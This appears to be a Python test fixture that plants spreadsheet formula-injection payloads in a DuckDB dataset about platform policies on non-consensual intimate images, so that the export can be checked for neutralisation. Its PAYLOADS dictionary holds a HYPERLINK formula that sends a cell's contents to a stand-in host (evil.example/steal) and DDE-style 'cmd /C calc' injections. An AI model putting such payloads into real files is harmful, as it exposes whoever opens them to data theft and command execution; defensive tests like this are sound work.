"""Hostile cell values for the hardening tests (importable as ``hardening_hostile``)."""

from __future__ import annotations

import duckdb

# One hostile text per formula prefix OWASP names; each is quoted as if from a crawled page.
PAYLOADS: dict[str, str] = {
    "=": '=HYPERLINK("https://evil.example/steal?d="&A1,"non-consensual intimate images")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1 intimate images",
    "cr": "\r=1+1 intimate images",
}
# policy_elements rows (slug, element) of the dashboard fixture that hold a quote.
QUOTE_CELLS = {
    "=": ("facebook", "ncii_prohibition"), "+": ("facebook", "ncii_reporting_channel"),
    "-": ("facebook", "report_without_account"), "@": ("google_search", "hash_matching"),
    "tab": ("google_search", "ncii_prohibition"), "cr": ("bing", "ncii_prohibition"),
}


def make_hostile(con: duckdb.DuckDBPyConnection) -> None:
    """Put every payload into quoted evidence, one into a platform name and a negative
    number into a numeric column (which must stay a number)."""
    for prefix, (slug, element) in QUOTE_CELLS.items():
        con.execute("UPDATE policy_elements SET quote = ? WHERE slug = ? AND element = ?",
                    [PAYLOADS[prefix], slug, element])
    con.execute("UPDATE scorecard_platform SET name_en = ?, overall_score = -12.5 "
                "WHERE slug = 'imgur'", [PAYLOADS["@"]])
